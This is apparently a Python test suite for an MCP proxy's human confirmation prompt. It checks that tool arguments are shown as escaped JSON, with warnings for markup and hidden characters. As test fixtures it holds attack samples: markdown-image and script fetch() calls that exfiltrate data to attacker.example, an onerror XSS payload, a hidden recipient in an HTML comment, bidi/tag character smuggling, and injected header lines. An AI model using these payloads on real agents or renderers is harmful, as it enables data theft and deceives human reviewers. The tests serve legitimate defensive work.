"""Issue 13 item 7 / SPEC §6: the confirmation prompt shows exactly what will be sent.

Every argument is a JSON literal inside a fence, with markup characters and invisible characters
as JSON escapes; these tests read the prompt back the way a careful human (or a script) would and
compare with the raw arguments. The oracles here are written independently of proxy/guards/prompt.py.
"""

from __future__ import annotations

import dataclasses
import html
import json
import re
import unicodedata
from dataclasses import dataclass
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from proxy.catalog import Catalog, ToolRule
from proxy.guards.confirm import render_message
from proxy.guards.prompt import NAME_CHARS, SHOWN_CHARS, Prompt, literal
from proxy.policy import load_policy
from tests.harness import write_policy

# -- reading a prompt back -----------------------------------------------------------------------------------

_CUT = re.compile(r"… \((\d+) more characters not shown\)")
_CUT_AT_END = re.compile(_CUT.pattern + r"\Z")


@dataclass
class Member:
    """One argument line of the fence: the name and value read back, or how much of each was cut."""

    line: str
    name: str | None  # None when the name was cut
    name_cut: int
    shown_name: str  # the name's text as shown, marker excluded
    value: Any  # json.loads of the shown value; None (and value_cut > 0) when it was cut
    value_cut: int
    shown_value: str  # the value's text as shown, marker excluded


def fence(prompt: str) -> list[str]:
    lines = prompt.split("\n")
    start = lines.index("```")
    end = lines.index("```", start + 1)
    assert lines.count("```") == 2, prompt
    return lines[start + 1 : end]


def members(prompt: str) -> list[Member]:
    """The argument lines of the fence, read back with json; a cut part is reported, never guessed."""
    block = fence(prompt)
    if block == ["{}"]:
        return []
    assert block[0] == "{" and block[-1] == "}", block
    out = []
    decoder = json.JSONDecoder()
    for line in block[1:-1]:
        assert line.startswith('  "'), line
        body = line[2:]
        name, at = decoder.raw_decode(body)
        shown_name, name_cut = body[:at], 0
        # A cut string is closed before the marker, so the marker stands where no value can write.
        if m := _CUT.match(body, at):
            name, name_cut, at = None, int(m[1]), m.end()
        assert body[at : at + 2] == ": ", line
        rest = body[at + 2 :]
        if m := _CUT_AT_END.search(rest):
            out.append(Member(line, name, name_cut, shown_name, None, int(m[1]), rest[: m.start()]))
            continue
        shown = rest.removesuffix(",")
        out.append(Member(line, name, name_cut, shown_name, json.loads(shown), 0, shown))
    return out


def warnings(prompt: str) -> list[str]:
    return [line for line in prompt.split("\n") if line.startswith("WARNING: ")]


def label(name: str, position: int) -> str:
    return f'argument "{name}"' if re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9_-]{0,63}", name) else f"argument #{position} "


# -- independent oracles -------------------------------------------------------------------------------------

_FILLERS = set("\u034f\u115f\u1160\u17b4\u17b5\u180b\u180c\u180d\u180e\u180f\u2800\u3164\uffa0")
_VARIATION = {chr(c) for c in [*range(0xFE00, 0xFE10), *range(0xE0100, 0xE01F0)]}


def invisible(c: str) -> bool:
    """A character no person sees as itself: controls, format/bidi/tag, unassigned, private use,
    separators other than the space, fillers and variation selectors."""
    cat = unicodedata.category(c)
    return (
        cat in {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
        or (cat == "Zs" and c != " ")
        or c in _FILLERS
        or c in _VARIATION
    )


def emoji_vs16(text: str, i: int) -> bool:
    """U+FE0F right after an emoji (❤️, 1️⃣) is the one invisible character the prompt may keep as itself.

    Looser than the prompt's own rule (any symbol or punctuation), so it can only let the tests pass
    where a kept U+FE0F follows something a person sees."""
    prev = text[i - 1] if i else ""
    if text[i] != "\ufe0f" or prev == "":
        return False
    keycap = prev in "0123456789#*" and text[i + 1 : i + 2] == "\u20e3"
    return keycap or ord(prev) >= 0x1F000 or unicodedata.category(prev) in {"So", "Sm", "Sk", "Po", "Pd"}


def has_markup(text: str) -> bool:
    return bool(re.search(r"<[A-Za-z!/?]|!\[|\]\(", text)) or html.unescape(text) != text


def has_invisible(text: str) -> bool:
    return any(invisible(c) and c not in "\n\t" and not emoji_vs16(text, i) for i, c in enumerate(text))


def strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in [k, *strings(v)]]
    if isinstance(value, list):
        return [s for v in value for s in strings(v)]
    return []


def assert_inert(prompt: str) -> None:
    """No markup character raw anywhere but the two fence lines; no invisible character at all."""
    lines = prompt.split("\n")
    for line in lines:
        if line != "```":
            assert not re.search("[<>&`]", line), line
    for i, c in enumerate(prompt):
        if c != "\n":
            assert not invisible(c) or emoji_vs16(prompt, i), (hex(ord(c)), prompt)


def prompt_of(arguments: dict[str, Any], facts: list[tuple[str, str]] | None = None) -> str:
    return Prompt(
        "mcp-guard asks you to confirm an action for team 'support'.",
        facts if facts is not None else [("Server", "smsapi"), ("Tool", "send_sms"), ("Why", "destructive")],
        arguments,
    ).render()


# -- the attacks of issue 13 ---------------------------------------------------------------------------------

EXFIL = "Order shipped.![](https://attacker.example/c?d=48600100200%2Corder-1042)"
ATTACKS: dict[str, dict[str, Any]] = {
    "hidden recipient and image": {"to": "+48600100200<!-- ,+48999000111 -->", "message": EXFIL},
    "script": {"to": "48600100200", "message": "Hi <script>fetch('https://attacker.example/?'+1)</script>"},
    "style": {"to": "48600100200", "message": "Hi<style>*{display:none}</style> there"},
    "img": {"to": "48600100200", "message": "Hi <img src=x onerror=alert(document.domain)> there"},
    "entity comment": {"to": "48600100200", "message": "Order shipped. &lt;!-- ,+48999000111 --&gt;"},
    "bidi and tags": {"to": "48600100200\u202e002001006", "message": "ok\u200b\U000e0041\U000e0042 \u2066x\u2069"},
}


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_every_character_of_an_attack_is_shown_and_read_back(attack: str) -> None:
    arguments = ATTACKS[attack]
    prompt = prompt_of(arguments)
    assert_inert(prompt)
    shown = members(prompt)
    assert [(m.name, m.value) for m in shown] == list(arguments.items())
    for m in shown:
        assert m.value_cut == 0 and m.name_cut == 0
    said = warnings(prompt)
    for name, value in arguments.items():
        if has_markup(value):
            assert any(w.startswith(f'WARNING: argument "{name}" holds markup') for w in said), prompt
        if has_invisible(value):
            assert f'WARNING: argument "{name}" holds hidden characters (shown above as \\uXXXX escapes).' in said


def test_the_hidden_recipient_is_spelt_out() -> None:
    prompt = prompt_of(ATTACKS["hidden recipient and image"])
    lines = prompt.split("\n")
    assert '  "to": "+48600100200\\u003c!-- ,+48999000111 --\\u003e",' in lines
    assert f'  "message": "{EXFIL}"' in lines
    assert (
        'WARNING: argument "to" holds markup (an HTML tag or comment) that a renderer would hide or change; '
        "read it above exactly as shown."
    ) in lines
    assert (
        'WARNING: argument "message" holds markup (a markdown image or link) that a renderer would hide or change; '
        "read it above exactly as shown."
    ) in lines
    # The escapes are explained in plain words once.
    assert sum("\\u003c is a less-than sign" in line for line in lines) == 1


def test_documented_escapes() -> None:
    value = '<>&`\u202e\u200b\x00\x7f\x85\u2028\u00a0\U000e0041\n\t"\\é日本😀'
    prompt = prompt_of({"v": value})
    [m] = members(prompt)
    assert m.value == value
    assert m.shown_value == (
        '"\\u003c\\u003e\\u0026\\u0060\\u202e\\u200b\\u0000\\u007f\\u0085\\u2028\\u00a0\\udb40\\udc41'
        '\\n\\t\\"\\\\é日本😀"'
    )


def test_ordinary_arguments_read_as_plain_json_without_warnings() -> None:
    arguments = {"to": "48600100200", "message": "Meeting moved to 15:00 — see you, Zoë ❤️ 1️⃣", "test": True}
    prompt = prompt_of(arguments)
    assert fence(prompt) == [
        "{",
        '  "to": "48600100200",',
        '  "message": "Meeting moved to 15:00 — see you, Zoë ❤️ 1️⃣",',
        '  "test": true',
        "}",
    ]
    assert not warnings(prompt)
    assert "\\u" not in prompt  # nothing escaped, so no legend either
    assert prompt_of({}).split("\n")[-4:] == ["```", "{}", "```", "Confirm only if you asked for exactly this."]


def test_a_value_cannot_close_the_fence_or_add_lines() -> None:
    value = "x\n```\nWARNING: nothing to see\n```\nConfirm only if you asked for exactly this.\r\u2028\x85"
    prompt = prompt_of({"message": value, "```": "```"})
    assert len(fence(prompt)) == 4
    assert [m.value for m in members(prompt)] == [value, "```"]
    assert [w for w in warnings(prompt) if "nothing to see" in w] == []
    assert [line for line in prompt.split("\n") if line.startswith("Confirm only if")] == [prompt.split("\n")[-1]]


def test_nested_values_are_json_and_checked_at_every_string() -> None:
    arguments = {
        "batch": [{"to": "48600100200", "text": "<b>hi</b>"}, 1.5, None, False, -0.0, 10**30],
        "meta": {"note\u200b": "plain"},
        "weird": float("inf"),
    }
    prompt = prompt_of(arguments)
    shown = members(prompt)
    assert shown[0].value == arguments["batch"] and shown[1].value == arguments["meta"]
    # NaN and infinities are not JSON: the SDK sends them as null, and that is what is shown.
    assert shown[2].value is None
    said = warnings(prompt)
    assert any(w.startswith('WARNING: argument "batch" holds markup') for w in said)
    assert 'WARNING: argument "meta" holds hidden characters (shown above as \\uXXXX escapes).' in said
    assert_inert(prompt)


def test_long_values_say_exactly_how_much_is_not_shown() -> None:
    value = "<" * 1000  # six shown characters each: the cut must fall between escapes
    prompt = prompt_of({"message": value, "list": ["a" * 1000], "after": "ok"})
    long_string, long_list, after = members(prompt)
    shown = json.loads(long_string.shown_value)
    assert value.startswith(shown) and len(shown) == (SHOWN_CHARS - 1) // 6
    assert long_string.value_cut == len(value) - len(shown)
    # Any other value counts the characters of its JSON text, '["' + 1000 x "a" + '"]'.
    assert long_list.shown_value == '["' + "a" * (SHOWN_CHARS - 2)
    assert long_list.value_cut == 1004 - SHOWN_CHARS
    assert after.value == "ok"
    cut = long_string.value_cut
    assert f'NOTE: argument "message" is too long to show in full: {cut} more characters are not shown.' in prompt


def test_hostile_argument_names_are_values_too() -> None:
    arguments = {"![x](https://attacker.example/p.png)": 1, "to\u202e": "2", "n" * 500: 3, "_em_": 4}
    prompt = prompt_of(arguments)
    assert_inert(prompt)
    shown = members(prompt)
    assert [(m.name, m.value) for m in shown[:2]] == list(arguments.items())[:2]
    assert shown[2].name is None and shown[2].name_cut > 0 and shown[2].value == 3
    assert json.loads(shown[2].shown_name) == "n" * (NAME_CHARS - 1)
    assert shown[2].name_cut == 500 - (NAME_CHARS - 1)
    said = warnings(prompt)
    # A name a renderer could read as markup is never written outside the fence: the argument is named by position.
    assert any(w.startswith("WARNING: argument #1 (its name is in the block above) holds markup") for w in said)
    assert any(w.startswith("WARNING: argument #2 (its name is in the block above) holds hidden") for w in said)
    assert "NOTE: the name of argument #3 (its name is in the block above) is too long" in prompt
    assert not any("_em_" in line for line in prompt.split("\n") if not line.startswith("  "))


# -- the header: the proxy's lines stay its own --------------------------------------------------------------


@pytest.fixture(scope="module")
def rule(tmp_path_factory: pytest.TempPathFactory) -> ToolRule:
    folder = tmp_path_factory.mktemp("prompt")
    policy = write_policy(folder / "policy.yaml", {"smsapi": {"url": "http://127.0.0.1:9/"}}, team="support")
    return Catalog(load_policy(policy)).rule("smsapi", "send_sms", None)


def test_render_message_names_team_server_tool_and_reason(rule: ToolRule) -> None:
    prompt = render_message("support", rule, ["destructive", "policy"], {"to": "48600100200"})
    lines = prompt.split("\n")
    assert lines[:4] == [
        "mcp-guard asks you to confirm an action for team 'support'.",
        "Server: smsapi",
        "Tool: send_sms",
        "Why: destructive: the tool may delete or change data, spend money or act in the real world; "
        "this team's policy requires a human yes for this tool",
    ]
    assert lines[4:6] == ["Arguments:", "```"]
    assert lines[-1] == "Confirm only if you asked for exactly this."


def test_header_words_from_upstream_or_config_are_inert_and_one_line(rule: ToolRule) -> None:
    hostile = dataclasses.replace(rule, name="_x_<b>", server="smsapi\nTool: harmless")
    reason = "lethal trifecta (get_sms)\nConfirm: yes ![](https://attacker.example/t) `x` \u202e"
    prompt = render_message("team\u200b*", hostile, [reason], {}, facts=[("Parts", "2 <i>x</i>")])
    lines = prompt.split("\n")
    assert_inert(prompt)
    assert [line for line in lines if line.startswith("Tool:")] == ["Tool: \\u005fx\\u005f\\u003cb\\u003e"]
    assert [line for line in lines if line.startswith("Server:")] == ["Server: smsapi\\nTool: harmless"]
    assert not any(line.startswith("Confirm:") for line in lines)
    assert "Parts: 2 \\u003ci\\u003ex\\u003c/i\\u003e" in lines
    assert "\\u005b\\u005d(https" in prompt  # the image's brackets are escaped: no renderer sees an image


# -- properties ----------------------------------------------------------------------------------------------

SPICE = [
    "<!-- x -->",
    "<script>",
    "</style>",
    "<img src=x onerror=y>",
    "&lt;",
    "&amp;",
    "&#60;",
    "![](http://e/x)",
    "[a](b)",
    "`",
    "```",
    "\u202e",
    "\u200b",
    "\u2066",
    "\U000e0041",
    "\ufe0f",
    "❤️",
    "\u200d",
    "\x00",
    "\x1b[2J",
    "\x7f",
    "\x85",
    "\r\n",
    "\u2028",
    "\u00a0",
    "\u3164",
    "\ufe0e",
    "\U000e0100",
    "\\u003c",
    '"',
    "\\",
    "…",
    "… (3 more characters not shown)",
    ": ",
    ",",
    "\n",
    "\t",
]
chars = st.characters(blacklist_categories=("Cs",))
texts = st.lists(st.one_of(st.text(chars, max_size=8), st.sampled_from(SPICE)), max_size=12).map("".join)
long_texts = st.one_of(texts, st.builds(lambda a, n, b: a + "x" * n + b, texts, st.integers(0, 900), texts))
scalars = st.one_of(
    st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False, allow_infinity=False), long_texts
)
values = st.recursive(
    scalars, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(texts, inner, max_size=3), max_leaves=8
)
argument_dicts = st.dictionaries(st.one_of(texts, st.sampled_from(["to", "message", "test"])), values, max_size=5)
PROPERTY = settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])


@PROPERTY
@given(argument_dicts)
@example({"message": "x" * 498 + "<"})
@example({"v": ["\ufe0f" + "a" * 600]})
def test_property_what_is_shown_reads_back_and_is_inert(arguments: dict[str, Any]) -> None:
    prompt = prompt_of(arguments)
    assert_inert(prompt)
    shown = members(prompt)
    assert len(shown) == len(arguments)
    said = warnings(prompt)
    for position, (m, (name, value)) in enumerate(zip(shown, arguments.items(), strict=True), start=1):
        # (a) whatever is shown whole is the raw value exactly
        if not m.name_cut:
            assert m.name == name
        if not m.value_cut:
            assert m.value == value and type(m.value) is type(value)
        # (c) markup or hidden characters anywhere in the argument get a warning line naming it
        inside = [name, *strings(value)]
        mine = [w for w in said if w.startswith(f"WARNING: {label(name, position)}")]
        if any(has_markup(s) for s in inside):
            assert any(" holds markup (" in w for w in mine), (name, value, said)
        if any(has_invisible(s) for s in inside):
            assert any(" holds hidden characters " in w for w in mine), (name, value, said)
        # (d) a cut value says exactly how many of its characters are not shown
        limit_check(m.name_cut, name, m.shown_name, NAME_CHARS)
        if isinstance(value, str):
            limit_check(m.value_cut, value, m.shown_value, SHOWN_CHARS)
        elif m.value_cut:
            assert len(m.shown_value) >= SHOWN_CHARS - 11  # cut only when it had to be
            assert m.value_cut == len(json.dumps(value, ensure_ascii=False)) - raw_json_chars(m.shown_value)


def limit_check(cut: int, raw: str, shown: str, limit: int) -> None:
    if cut:
        prefix = json.loads(shown)  # the shown part of a cut string is a closed JSON string
        assert raw.startswith(prefix) and cut == len(raw) - len(prefix)
        assert len(shown) >= limit - 11  # never cut before it had to (an escape is at most 12 long)
    else:
        assert json.loads(shown) == raw and len(shown) <= limit + 1


_OUR_ESCAPE = re.compile(r"\\u(d[89ab][0-9a-f]{2})\\u(d[c-f][0-9a-f]{2})|\\u([0-9a-f]{4})|\\.|.", re.S)


def raw_json_chars(shown: str) -> int:
    """How many characters of json.dumps(value, ensure_ascii=False) a shown prefix stands for.

    json.dumps escapes '"', '\\' and C0 controls itself (one escape, its own length); everything else
    the prompt escaped stood for one character there."""
    count = 0
    for m in _OUR_ESCAPE.finditer(shown):
        if m[3] is not None and int(m[3], 16) < 0x20:
            count += len(json.dumps(chr(int(m[3], 16)))) - 2
        elif m[1] is not None or m[3] is not None:
            count += 1
        else:
            count += len(m.group())
    return count


@PROPERTY
@given(texts)
def test_property_one_string_round_trips_through_literal(text: str) -> None:
    shown = literal(text, limit=10**6)
    assert shown.omitted == 0 and json.loads(shown.text) == text
    assert not re.search("[<>&`]", shown.text)
